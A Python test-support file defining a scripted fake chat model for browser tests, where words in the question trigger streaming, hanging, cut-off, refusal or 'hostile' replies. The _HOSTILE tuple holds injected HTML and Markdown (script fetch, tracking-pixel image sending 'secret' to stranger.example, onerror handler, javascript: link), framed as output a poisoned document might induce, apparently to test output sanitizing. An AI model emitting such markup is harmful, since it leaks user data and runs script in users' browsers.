"""The model of the browser tests: it reads documents and rows, and a word in the question makes it behave otherwise."""

from typing import Any

from tests.support.demo_model import answer_demo
from tests.support.fake_model import Cut, Hang, Refuse, Reply, Say, say
from tests.support.reading_model import last_question, read_documents

_HALF = ("A refurbished ", "machine has ", "twelve months ", "of warranty [1]. ", "After that ")
_SLOW = " ".join(f"Sentence {number} comes slowly [1]." for number in range(1, 13))
# What a poisoned document may talk a model into. Marks of Markdown are split over pieces, as a stream splits them.
_HOSTILE = (
    "Twelve months [1]. <scr",
    "ipt>fetch('https://stranger.example/script')</script> ![pix",
    "el](https://stranger.example/pi",
    'xel.png?q=secret) <img src="https://stranger.example/img" onerror="fetch(\'https://stranger.example/error\')"> ',
    "[click](java",
    "script:alert(1)) [data](data:text/html,<b>x</b>)\n\n",
    "![ref][r]\n\n[r]: https://stranger.example/reference.png\n\nThe end.",
)
_ENDINGS: dict[str, Reply] = {
    "slowly": Say(tuple(word for word in _SLOW.replace(" ", " \0").split("\0")), pause_seconds=0.12),
    "without end": Hang(_HALF),
    "half": Cut(_HALF, abort=False),
    "hostile": Say(_HOSTILE),
}
_REFUSALS: dict[str, Reply] = {
    "credit": Refuse(429, "insufficient_quota"),
    "key": Refuse(401, "invalid_api_key"),
}


def answer_journey(body: dict[str, Any]) -> Reply:
    """The reply to a request of either wire: refused at once, or searched for and then ended as the question says."""
    if not body.get("tools"):
        return say("A question about the handbook")
    question = last_question(body)
    for word, refusal in _REFUSALS.items():
        if word in question:
            return refusal
    known = answer_demo(body)
    if known is not None:
        return known
    reply = read_documents(body)
    if isinstance(reply, Say) and not reply.calls:
        return next((ending for word, ending in _ENDINGS.items() if word in question), reply)
    return reply
